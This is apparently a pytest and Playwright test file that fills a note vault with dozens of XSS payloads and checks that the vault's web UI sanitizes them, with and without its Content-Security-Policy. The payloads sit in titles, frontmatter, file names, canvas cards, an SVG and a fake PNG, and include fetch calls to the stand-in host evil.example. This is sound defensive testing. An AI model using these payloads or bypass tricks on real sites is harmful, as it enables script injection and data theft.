"""The page shows hostile notes without running any of them: a vault of XSS payloads, in every
place a note can carry text, opened in a real Chromium against a real daemon and page server.

The corpus puts script in titles (H1 and frontmatter), headings, bodies, frontmatter values,
file and folder names, canvas cards, an image's pictured text (read by OCR), an SVG holding a
`<script>` and an HTML file named `.png`; each vector would, if it ran, call `alert`, set
`window.top.__pwned`, or ask `evil.example` (another origin) for something. Every note is
opened, found by search (so its snippet is drawn), its in-page links clicked and every link
hovered and focused; Home and Health are shown too. No dialog may open, no request may go to
another origin, no window may open and `window.__pwned` stays undefined.

The sweep runs twice: under the page's own Content-Security-Policy, and in a browser context
that ignores it (`bypass_csp`), which shows that the server's sanitizing holds on its own and
the policy is a second wall. The served HTML is also checked as markup: only allow-listed
tags, no event handler or inline style, no link to a script scheme, images only from `/file/`.
"""

from __future__ import annotations

import base64
import io
import json
import re
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from harness.daemon import (
    PATIENCE,
    RunningDaemon,
    short_socket_dir,
    start,
    write_config,
)
from tests.page_server import CHROMIUM, chromium, enter, ui_server
from vaultd.api.client import Client
from vaultd.layout import vault_id
from vaultd.ui.server import UiServer

pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(), reason=f"{CHROMIUM} is absent (apt-get install chromium)"
)
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

#: OCR on for the image whose pictured text is a payload; a loaded machine may take a while
#: to load the engine, which is not what this test is about.
OCR_ON = '\n[attachments]\nocr = true\nextract_timeout = "10m"\n'
WAIT_MS = PATIENCE * 1000
#: How a request the page's policy stopped in the browser is said to have failed.
CSP_FAILURES = ("csp", "net::ERR_BLOCKED_BY_CSP")

# What a payload does if it runs: each is noticed (a dialog, a flag, a request elsewhere).
ALERT = "alert(1)"
PWN = "window.top.__pwned=1"
LEAK = "fetch('https://evil.example/leak')"

EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(1)">'
    f"<script>{PWN};{LEAK}</script>"
    '<image href="https://evil.example/svg.png" width="10" height="10"/>'
    '<rect width="40" height="40" fill="red"/></svg>\n'
)
FAKE_PNG = (
    "<!DOCTYPE html><html><body><script>alert(1);window.top.__pwned=1</script>"
    '<img src="https://evil.example/fake.png"></body></html>\n'
)


@dataclass(frozen=True)
class Hostile:
    """A file of the corpus as the sweep visits it: its vault path and the unique word that
    finds it by search (its snippet then holds a payload)."""

    path: str
    word: str


def notes() -> dict[str, str]:
    """The hostile Markdown notes by vault path; `WORDMARK` stands for each one's word."""
    return {**_names_and_titles(), **_html_bodies(), **_markdown_syntax(), **_obsidian_syntax()}


def _names_and_titles() -> dict[str, str]:
    return {
        "h1-title.md": f"# <script>{ALERT}</script> title\n\nWORDMARK <script>{PWN}</script>\n",
        "frontmatter.md": (
            "---\n"
            "title: '<img src=x onerror=alert(1)>'\n"
            "aliases: ['<svg onload=alert(1)>', '\"><script>alert(1)</script>']\n"
            "tags: ['<script>alert(1)</script>', 'x\" onmouseover=\"alert(1)']\n"
            "source: 'javascript:alert(1)'\n"
            "cover: '[[x\" onerror=\"alert(1).png]]'\n"
            "cssclasses: ['x\" onload=\"alert(1)']\n"
            "---\n\nWORDMARK body of a note whose frontmatter is hostile.\n"
        ),
        "broken-frontmatter.md": (
            "---\ntitle: <script>alert(1)</script>: [\n---\n\nWORDMARK <b onclick=alert(1)>b</b>\n"
        ),
        "<img src=x onerror=alert(1)>.md": "WORDMARK a note named as a payload.\n",
        '<svg onload=alert(1)>/"><img src=x onerror=window.top.__pwned=1>.md': (
            "WORDMARK a note in a folder named as a payload.\n"
        ),
        "headings.md": (
            "# Headings\n\n## <img src=x onerror=alert(1)>\n\nWORDMARK\n\n"
            f"### <svg onload={PWN}> three\n\ntext\n\n#### [x](javascript:{ALERT}) four\n"
        ),
        "links-to-named.md": (
            "WORDMARK [[<img src=x onerror=alert(1)>]] and "
            '[["><img src=x onerror=window.top.__pwned=1>]] and [[frontmatter]] and '
            '[[<svg onload=alert(1)>/"><img src=x onerror=window.top.__pwned=1>|in a folder]]\n'
        ),
    }


def _html_bodies() -> dict[str, str]:
    return {
        "script.md": (
            f"WORDMARK <script>{ALERT}</script> <SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n"
        ),
        "img.md": f"WORDMARK <img src=x onerror={ALERT}> <img src=https://evil.example/i.png>\n",
        "svg.md": f"WORDMARK <svg onload={ALERT}> <svg><script>{PWN}</script></svg>\n",
        "comment.md": (
            f"WORDMARK <!-- <script>{ALERT}</script> --> <!--><script>{PWN}</script>-->\n"
        ),
        "style.md": (
            "WORDMARK <style>body{background:url(https://evil.example/)}</style>\n\n"
            '<p style="background:url(https://evil.example/s.png)">styled</p>\n'
        ),
        "iframe.md": (
            'WORDMARK <iframe src="https://evil.example/"></iframe>\n\n'
            f'<iframe srcdoc="<script>{PWN}</script>"></iframe>\n'
        ),
        "anchor.md": (
            f'WORDMARK <a href="javascript:{ALERT}">x</a> '
            '<a href="https://evil.example/" ping="https://evil.example/ping">y</a> '
            "<a href='&#x6A;avascript:alert(1)'>z</a>\n"
        ),
        "details.md": f"WORDMARK <details open ontoggle={ALERT}><summary>s</summary></details>\n",
        "math.md": (
            f'WORDMARK <math><mi xlink:href="javascript:{ALERT}">x</mi></math> '
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n"
        ),
        "nested-script.md": f"WORDMARK <scr<script>ipt>{ALERT}</script>\n",
        "base.md": 'WORDMARK <base href="https://evil.example/">\n',
        "meta.md": 'WORDMARK <meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
        "link-css.md": "WORDMARK <link rel=stylesheet href=https://evil.example/x.css>\n",
        "object.md": (
            "WORDMARK <object data=https://evil.example/x.swf></object> "
            f"<embed src=https://evil.example/x.swf> <object data=javascript:{ALERT}>\n"
        ),
        "form.md": (
            f"WORDMARK <input autofocus onfocus={ALERT}> <form action=https://evil.example/>"
            "<button>go</button></form> <body onload=alert(1)> "
            "<video poster=https://evil.example/p.png></video>\n"
        ),
        "raw-page.md": (
            "<!DOCTYPE html>\n<html>\n<head>\n<script>alert(1)</script>\n"
            '<link rel="stylesheet" href="https://evil.example/a.css">\n</head>\n'
            f'<body onload="{PWN}">\n<p>WORDMARK</p>\n<img src="https://evil.example/b.png" '
            f'onerror="{LEAK}">\n</body>\n</html>\n'
        ),
    }


def _markdown_syntax() -> dict[str, str]:
    data_html = "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode()
    return {
        "md-links.md": (
            f"WORDMARK [a](javascript:{ALERT}) [b](JaVaScRiPt:{ALERT}) [c]({data_html}) "
            f"[d](vbscript:msgbox(1)) [e](&#106;avascript:{ALERT}) [f](javascript&colon;{ALERT}) "
            f"[g](%6Aavascript:{ALERT}) [h](<javascript:{ALERT}>) <javascript:{ALERT}> "
            '[i](https://ok.example "\\" onmouseover=\\"alert(1)") '
            "[j](#a%22%20onmouseover%3D%22alert(1)) [k](//evil.example/x)\n"
        ),
        "md-images.md": (
            f"WORDMARK ![a](javascript:{ALERT}) ![b](https://evil.example/x.png) "
            "![c](//evil.example/y.png) ![d](data:image/svg+xml;base64,PHN2Zz4=) "
            "[![e](https://evil.example/z.png)](javascript:alert(1))\n"
        ),
        "fence.md": (
            f'WORDMARK\n\n```"><script>{ALERT}</script>\ncode\n```\n\n'
            f"```js onload={PWN}\n<img src=x onerror={ALERT}>\n```\n\n`<script>{ALERT}</script>`\n"
        ),
        "table.md": (
            "WORDMARK\n\n| <script>alert(1)</script> | b |\n|---|---|\n"
            f"| <img src=x onerror={ALERT}> | [x](javascript:{ALERT}) |\n"
        ),
        "footnote.md": (
            "WORDMARK text[^1] more[^<script>]\n\n[^1]: <img src=x onerror=alert(1)>\n"
            f"[^<script>]: <script>{PWN}</script>\n"
        ),
        "unicode.md": (
            f"WORDMARK ＜script＞{ALERT}＜/script＞ [z](java\u200bscript:{ALERT}) "
            f"\u202e<script>{ALERT}</script> <ſcript>{ALERT}</ſcript>\n"
        ),
        "entities.md": (
            "WORDMARK &lt;script&gt;alert(1)&lt;/script&gt; "
            "<img src=x onerror=&#97;lert(1)> &#60;img src=x onerror=alert(1)&#62;\n"
        ),
        "emphasis.md": (
            f"WORDMARK =={'<script>' + ALERT + '</script>'}== ~~<img src=x onerror={ALERT}>~~ "
            f"**<svg onload={PWN}>**\n\n- [x] <script>{ALERT}</script>\n"
        ),
        "link-text.md": (
            "WORDMARK [<img src=x onerror=alert(1)>](https://ok.example/) "
            "[a [[b]] #c](https://ok.example/) https://evil.example/bare\n"
        ),
    }


def _obsidian_syntax() -> dict[str, str]:
    return {
        "wikilinks.md": (
            'WORDMARK [[x" onmouseover="alert(1)]] [[a|<img src=x onerror=alert(1)>]] '
            '![[x" onerror="alert(1).png]] ![[x.png|100" onload="alert(1)]] '
            '[[javascript:alert(1)|click"]] [[#"><img src=x onerror=alert(1)>]]\n'
        ),
        "callouts.md": (
            "WORDMARK\n\n> [!info] <img src=x onerror=alert(1)>\n> body\n\n"
            '> [!x" onclick="alert(1)] title\n> body\n\n'
            f"> [!<script>{PWN}</script>]- <svg onload={ALERT}>\n> folded\n"
        ),
        "tags.md": f'WORDMARK #<script>{ALERT}</script> #tag"onmouseover="alert(1) #ok-tag\n',
        "obsidian-comment.md": f"WORDMARK %%<script>%% <script>{ALERT}</script> %%x%%\n",
        "svg-embed.md": "WORDMARK ![[evil.svg]] ![evil](evil.svg)\n",
        "fake-png.md": "WORDMARK ![[fake.png]] ![fake](fake.png)\n",
        "scan-embed.md": "WORDMARK ![[scan.png]]\n",
    }


def canvas(word: str) -> dict[str, Any]:
    """A canvas with payloads in its text cards, a group's label, a link card, a file card's
    target, a card's id and an edge's label."""
    box = {"x": 0, "y": 0, "width": 300, "height": 200}
    return {
        "nodes": [
            {"id": "group", "type": "group", "label": f"<svg onload={ALERT}>",
             "x": -50, "y": -50, "width": 2000, "height": 900},
            {**box, "id": "t1", "type": "text",
             "text": f"{word} <script>{ALERT}</script>\n\n<img src=x onerror={PWN}>\n\n"
                     f"[x](javascript:{ALERT}) [[<img src=x onerror=alert(1)>]]"},
            {**box, "id": '"><img src=x onerror=alert(1)>', "type": "text", "x": 400,
             "text": f"{word} card whose id is a payload ![x](https://evil.example/c.png)"},
            {**box, "id": "l1", "type": "link", "x": 800, "url": f"javascript:{ALERT}"},
            {**box, "id": "f1", "type": "file", "x": 1200,
             "file": "<img src=x onerror=alert(1)>.md"},
        ],
        "edges": [
            {"id": "e1", "fromNode": "t1", "toNode": "l1",
             "label": f"{word} <img src=x onerror={PWN}>"},
        ],
    }  # fmt: skip


#: The image's pictured lines: OCR reads them as its text.
OCR_LINES = ("pangolin", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>")


def ocr_image() -> bytes:
    """Large black text on white, which the OCR engine reads."""
    from PIL import Image, ImageDraw, ImageFont

    font = ImageFont.load_default(size=56)
    image = Image.new("RGB", (1400, 120 + 110 * len(OCR_LINES)), "white")
    draw = ImageDraw.Draw(image)
    for n, line in enumerate(OCR_LINES):
        draw.text((60, 60 + 110 * n), line, fill="black", font=font)
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


#: Words no note holds but the one they are put in; one per searched file.
ANIMALS = (
    "aardvark", "badger", "caracal", "dingo", "echidna", "fennec", "gibbon", "hoopoe", "ibex",
    "jackal", "kinkajou", "lemur", "marmot", "narwhal", "ocelot", "puffin", "quokka", "raccoon",
    "serval", "tapir", "urial", "vicuna", "wombat", "xerus", "yapok", "zorilla", "axolotl",
    "bonobo", "coati", "dugong", "eland", "fossa", "gharial", "hyrax", "impala", "jerboa",
    "kakapo", "loris", "margay", "numbat", "okapi",
)  # fmt: skip


def write_corpus(root: Path) -> list[Hostile]:
    """The hostile vault, written; the files the sweep visits, each with its word."""
    visited: list[Hostile] = []
    written = notes()
    assert len(ANIMALS) >= len(written)
    for (path, text), animal in zip(written.items(), ANIMALS[: len(written)], strict=True):
        word = "xss" + animal
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text.replace("WORDMARK", word), encoding="utf-8")
        visited.append(Hostile(path, word))
    canvas_word = "xsscanvaswalrus"
    (root / "board.canvas").write_text(json.dumps(canvas(canvas_word)), encoding="utf-8")
    visited.append(Hostile("board.canvas", canvas_word))
    (root / "scan.png").write_bytes(ocr_image())
    visited.append(Hostile("scan.png", OCR_LINES[0]))
    (root / "evil.svg").write_text(EVIL_SVG, encoding="utf-8")
    (root / "fake.png").write_text(FAKE_PNG, encoding="utf-8")
    assert len(visited) == len({v.word for v in visited}) >= 30
    return visited


# --- Fixtures: one daemon, one page server, one browser -----------------------------------------


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("xss") / "vault"
    root.mkdir()
    return root


@pytest.fixture(scope="module")
def corpus(vault: Path) -> list[Hostile]:
    return write_corpus(vault)


@pytest.fixture(scope="module")
def sockets() -> Path:
    return short_socket_dir() / "vaultd.sock"


@pytest.fixture(scope="module")
def daemon(
    corpus: list[Hostile], vault: Path, sockets: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RunningDaemon]:
    work = tmp_path_factory.mktemp("work")
    config = write_config(work / "vaultd.toml", vault, work / "data", sockets, extra=OCR_ON)
    d = start(config, sockets, work / "vaultd.log")
    try:
        d.wait_idle()
        # Each visited file indexed before the page looks for it (the image waits for OCR).
        for hostile in corpus:
            d.search(hostile.word, k=1, wait_for=hostile.path)
        yield d
    finally:
        if d.process.poll() is None:
            d.stop()


@pytest.fixture(scope="module")
def ui(daemon: RunningDaemon, sockets: Path, vault: Path) -> Iterator[UiServer]:
    with ui_server(Client(sockets, timeout=90, vault_id=vault_id(vault)), vault) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as launched:
        yield launched


# --- Watching the browser -----------------------------------------------------------------------


@dataclass
class Watch:
    """What the browser did that a payload would make it do, each with the view it was in."""

    origin: str
    where: str = "start"
    dialogs: list[str] = field(default_factory=list)
    #: Requests for another origin as they were asked, with the view asking.
    asked: list[tuple[str, Any]] = field(default_factory=list)
    foreign: set[str] = field(default_factory=set)
    blocked: set[str] = field(default_factory=set)
    pwned: list[str] = field(default_factory=list)
    popups: list[str] = field(default_factory=list)
    csp: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    #: What the sweep did: views drawn, links hovered, links clicked.
    done: Counter[str] = field(default_factory=Counter)

    def attach(self, context: Any, page: Any) -> None:
        context.on("request", self._request)
        page.on("request", self._request)
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.errors.append(f"{self.where}: {error}"))
        page.on("websocket", lambda ws: self.foreign.add(f"{self.where}: websocket {ws.url}"))
        context.on("page", lambda opened: self.popups.append(f"{self.where}: {opened.url}"))

    def _request(self, request: Any) -> None:
        url = request.url
        parts = urlsplit(url)
        if parts.scheme == "data" or f"{parts.scheme}://{parts.netloc}" == self.origin:
            return
        self.asked.append((self.where, request))

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(f"{self.where}: {dialog.type} {dialog.message!r}")
        dialog.dismiss()

    def _console(self, message: Any) -> None:
        if "Content Security Policy" in message.text:
            self.csp.append(f"{self.where}: {message.text}")

    def check(self, page: Any) -> None:
        """After a view: the flag a payload would set."""
        if page.evaluate("() => window.__pwned") is not None:
            self.pwned.append(self.where)
            page.evaluate("() => { delete window.__pwned; }")

    def settle(self) -> None:
        """Sort the requests for another origin asked so far, once each has ended: those the
        page's policy stopped inside the browser (a wall that held: shown, no failure) from
        all others."""
        while self.asked:
            where, request = self.asked.pop()
            line = f"{where}: {request.method} {request.url}"
            # Waits until the request has an answer or has failed; Playwright names a failure
            # the policy caused "csp".
            stopped = request.response() is None and request.failure in CSP_FAILURES
            (self.blocked if stopped else self.foreign).add(line)

    def report(self) -> str:
        self.settle()
        parts = {
            "dialogs": self.dialogs,
            "requests to another origin": sorted(self.foreign),
            "window.__pwned set": self.pwned,
            "windows opened": self.popups,
        }
        return "\n".join(f"{name}:\n  " + "\n  ".join(got) for name, got in parts.items() if got)


def go(page: Any, watch: Watch, hash_: str, ready: str, arg: str) -> None:
    """Show the view at `hash_` and wait until the page says (`ready`, given `arg`) it is drawn;
    the marker it waits on is cleared first, so a view drawn before does not count."""
    watch.where = hash_
    moved = page.evaluate(
        """h => { for (const k of ["noteShown", "lastQuery", "homeShown", "healthNotes"])
                     delete document.body.dataset[k];
                  const before = location.hash;
                  location.hash = h;
                  return location.hash !== before; }""",
        hash_,
    )
    assert moved, f"already at {hash_}: the page would draw nothing anew"
    page.wait_for_function(ready, arg=arg, timeout=WAIT_MS)
    watch.check(page)
    watch.done["views drawn"] += 1


NOTE_SHOWN = "p => document.body.dataset.noteShown === p"
HITS_SHOWN = "q => document.body.dataset.lastQuery === q"


def show_note(page: Any, watch: Watch, path: str) -> None:
    go(page, watch, "#note/" + quote(path, safe=""), NOTE_SHOWN, path)


def poke_links(page: Any, watch: Watch, path: str) -> None:
    """Hover and focus every link in the note's passages, then click each that leads to
    another view of the page (a note), coming back to this note after each."""
    links = page.locator("#note-chunks a")
    targets: list[str] = []
    for n in range(links.count()):
        link = links.nth(n)
        watch.where = f"{path}: hover {link.get_attribute('href')}"
        if link.is_visible():
            link.hover(timeout=WAIT_MS)
        else:
            # Out of sight (a folded part): no pointer reaches it, its handlers would still run.
            link.dispatch_event("mouseover")
        link.focus()
        watch.check(page)
        watch.done["links hovered and focused"] += 1
        target = link.get_attribute("data-path")
        if target and (link.get_attribute("href") or "").startswith("#note/"):
            targets.append(target)
    for n, target in enumerate(targets):
        if n:
            show_note(page, watch, path)
        watch.where = f"{path}: click to {target}"
        page.evaluate("() => { delete document.body.dataset.noteShown; }")
        page.locator(f"#note-chunks a[data-path={json.dumps(target)}]").first.click()
        page.wait_for_function(NOTE_SHOWN, arg=target, timeout=WAIT_MS)
        watch.check(page)
        watch.done["links clicked"] += 1


def find(page: Any, watch: Watch, hostile: Hostile) -> None:
    """Search the note's word and see its hit (its snippet drawn), hovering its title."""
    go(page, watch, "#search?q=" + quote(hostile.word), HITS_SHOWN, hostile.word)
    titles = page.locator("#hits .hit-title")
    paths = titles.evaluate_all(
        "links => links.map(a => decodeURIComponent(a.getAttribute('href').slice(6)))"
    )
    assert hostile.path in paths, f"{hostile.word} did not find {hostile.path}: {paths}"
    titles.nth(paths.index(hostile.path)).hover(timeout=WAIT_MS)
    watch.check(page)


def sweep(page: Any, watch: Watch, corpus: list[Hostile]) -> None:
    """Every hostile file's note view, links and hit; Home and Health."""
    for hostile in corpus:
        show_note(page, watch, hostile.path)
        assert page.locator("#note-chunks .chunk").count(), f"{hostile.path}: no passage drawn"
        poke_links(page, watch, hostile.path)
        find(page, watch, hostile)
    go(page, watch, "#home", "() => document.body.dataset.homeShown === '1'", "")
    go(page, watch, "#health", "() => document.body.dataset.healthNotes !== undefined", "")


@contextmanager
def let_in(browser: Any, ui: UiServer, tmp: Path, *, bypass_csp: bool) -> Iterator[Any]:
    """A page of a new browser context, let in; with `bypass_csp` the page's policy is not
    applied, so only what the server sends stands between a payload and the browser."""
    context = browser.new_context(viewport={"width": 1200, "height": 800}, bypass_csp=bypass_csp)
    try:
        yield enter(context, ui, tmp)
    finally:
        context.close()


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "without-csp"])
def test_no_payload_runs_and_nothing_leaves_for_another_origin(
    browser: Any, ui: UiServer, corpus: list[Hostile], bypass_csp: bool, tmp_path: Path
) -> None:
    """The sweep, under the page's policy and without it: no dialog, no request for another
    origin, no window opened, `window.__pwned` never set."""
    with let_in(browser, ui, tmp_path, bypass_csp=bypass_csp) as page:
        watch = Watch(origin=f"http://127.0.0.1:{ui.port}")
        watch.attach(page.context, page)
        try:
            sweep(page, watch, corpus)
        except sync_api.Error as exc:
            # A payload that ran may take the page away (a navigation, a dialog left open):
            # what the watch saw up to then is the finding.
            pytest.fail(f"the sweep broke off at {watch.where}: {exc}\n{watch.report()}")
        if not bypass_csp:
            # Opened by itself ("open image in new tab") the SVG could run its script; its
            # answer's sandbox policy stops it. That policy is the only wall there, so this
            # is asked only where policies hold.
            watch.where = "/file/evil.svg opened by itself"
            page.goto(f"{watch.origin}/file/evil.svg")
            watch.check(page)
        watch.settle()
        print(f"\n{'with' if not bypass_csp else 'without'} the policy:", dict(watch.done))
        for line in sorted(watch.blocked) + watch.csp:
            print("blocked by the policy:", line)
        for line in watch.errors:
            print("page error:", line)
        assert not watch.report(), watch.report()


#: What a payload that ran would do, done by the test itself: the flag, a request for another
#: origin by script and one by markup, a dialog (which returns once the watch dismissed it).
CANARY = """() => {
    window.__pwned = 1;
    fetch("https://evil.example/canary-fetch").catch(() => {});
    document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.example/canary.png">');
    alert("canary");
}"""


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "without-csp"])
def test_the_watch_sees_a_payload_that_runs(
    browser: Any, ui: UiServer, bypass_csp: bool, tmp_path: Path
) -> None:
    """The sweep's silence means something: script run in the page (as a payload would run)
    is seen, and a request the page's policy stops is told from one that leaves."""
    fetched = "https://evil.example/canary-fetch"
    loaded = "https://evil.example/canary.png"
    with let_in(browser, ui, tmp_path, bypass_csp=bypass_csp) as page:
        watch = Watch(origin=f"http://127.0.0.1:{ui.port}")
        watch.attach(page.context, page)
        # The policy stops a fetch before Chromium makes a request of it, saying so on the
        # console; an image's request is made and fails there.
        with (
            page.expect_request(loaded, timeout=WAIT_MS),
            page.expect_request(fetched, timeout=WAIT_MS)
            if bypass_csp
            else page.expect_console_message(lambda m: fetched in m.text, timeout=WAIT_MS),
        ):
            page.evaluate(CANARY)
        watch.check(page)
        watch.settle()
        assert watch.dialogs == ["start: alert 'canary'"]
        assert watch.pwned == ["start"]
        if bypass_csp:
            assert watch.foreign == {f"start: GET {fetched}", f"start: GET {loaded}"}
            assert not watch.blocked
        else:
            assert not watch.foreign
            assert watch.blocked == {f"start: GET {loaded}"}
            assert any(fetched in line for line in watch.csp), watch.csp


# --- The served HTML, as markup -----------------------------------------------------------------

#: The tags a rendered passage may hold: none runs script or loads anything from elsewhere,
#: and the one that takes input is a disabled checkbox (a task's).
SAFE_TAGS = frozenset(
    {
        *("a", "p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong"),
        *("del", "mark", "s", "sup", "sub", "img", "span", "div", "input", "table", "thead"),
        *("tbody", "tr", "th", "td", "section", "h1", "h2", "h3", "h4", "h5", "h6"),
    }
)
#: The schemes a link may have; an image has none (only this server's `/file/`).
SCHEMES = frozenset({"http", "https", "mailto", "obsidian"})
#: Attributes that name a URL in some element.
URL_ATTRIBUTES = frozenset(
    {"href", "src", "srcset", "xlink:href", "action", "formaction", "data", "poster", "background"}
)
_BLANKS = "".join(map(chr, range(0x21)))


def url_problem(name: str, value: str) -> str | None:
    """Why a URL attribute is unsafe, read as a browser reads it (tabs and newlines inside
    dropped, control characters and spaces around), or None."""
    url = re.sub(r"[\t\n\r]", "", value).strip(_BLANKS)
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", url)
    if name == "src" and url.startswith("/file/") and not url.startswith("//"):
        return None
    if name == "href" and (url.startswith("#") or (scheme and scheme.group(1).lower() in SCHEMES)):
        return None
    return f"{name}={value!r}"


class Markup(HTMLParser):
    """The problems of one rendered fragment: a tag off the list, an event handler, an inline
    style, an unsafe URL, an id or name the page's own elements have, a comment."""

    def __init__(self, tags: frozenset[str], shell_ids: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags = tags
        self.shell_ids = shell_ids
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.problems.append(f"<{tag}>")
        for name, raw in attrs:
            value = raw or ""
            if name.startswith("on") or name == "style":
                self.problems.append(f"<{tag} {name}={value!r}>")
            elif name in URL_ATTRIBUTES:
                problem = url_problem(name, value)
                if problem:
                    self.problems.append(f"<{tag} {problem}>")
            elif name in ("id", "name") and value in self.shell_ids:
                self.problems.append(f"<{tag} {name}={value!r}> clobbers the page's own")
        named = dict(attrs)
        if tag == "input" and (named.get("type") != "checkbox" or "disabled" not in named):
            self.problems.append(f"<input {named}> is no disabled checkbox")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"<?{data}>")


def markup_problems(fragment: str, tags: frozenset[str], shell_ids: set[str]) -> list[str]:
    parser = Markup(tags, shell_ids)
    parser.feed(fragment)
    parser.close()
    return parser.problems


def test_the_served_html_holds_only_allow_listed_markup(
    browser: Any, ui: UiServer, corpus: list[Hostile], tmp_path: Path
) -> None:
    """Each hostile file's passages and snippets as the page's server sends them, asked with
    the page's own cookie: allow-listed tags only, no handler, no style, no script URL, images
    only from `/file/`; a snippet is text with `<mark>` and nothing else."""
    with let_in(browser, ui, tmp_path, bypass_csp=False) as page:
        origin = f"http://127.0.0.1:{ui.port}"
        shell_ids = set(
            page.evaluate("() => [...document.querySelectorAll('[id]')].map(e => e.id)")
        )
        problems: list[str] = []
        for hostile in corpus:
            answer = page.request.get(f"{origin}/api/v1/notes/{quote(hostile.path, safe='/')}")
            assert answer.ok, (hostile.path, answer.status, answer.text())
            chunks = answer.json()["chunks"]
            assert chunks, hostile.path
            if hostile.path == "scan.png":
                # The pictured payload was read, so the OCR text is hostile too.
                assert "alert(1)" in " ".join(c["text"] for c in chunks), chunks
            for chunk in chunks:
                found = markup_problems(chunk["html"], SAFE_TAGS, shell_ids)
                problems += [f"{hostile.path}: {p} in {chunk['html']!r}" for p in found]
            asked = {"query": hostile.word, "k": 20, "snippets": True}
            hits = page.request.post(
                f"{origin}/api/v1/search", data=asked, headers={"Origin": origin}
            )
            assert hits.ok, (hostile.word, hits.status, hits.text())
            for hit in hits.json()["hits"]:
                found = markup_problems(hit["snippet_html"], frozenset({"mark"}), shell_ids)
                problems += [f"snippet of {hit['path']}: {p}" for p in found]
                problems += [
                    f"snippet of {hit['path']}: {a}"
                    for a in re.findall(r"<mark\s[^>]*>", hit["snippet_html"])
                ]
        assert not problems, "\n".join(problems)
        # What the page must never be handed as a document: the HTML named .png is refused,
        # the SVG comes with a policy that sandboxes it.
        assert page.request.get(f"{origin}/file/fake.png").status in (404, 422)
        svg = page.request.get(f"{origin}/file/evil.svg")
        assert svg.ok and "sandbox" in svg.headers["content-security-policy"]
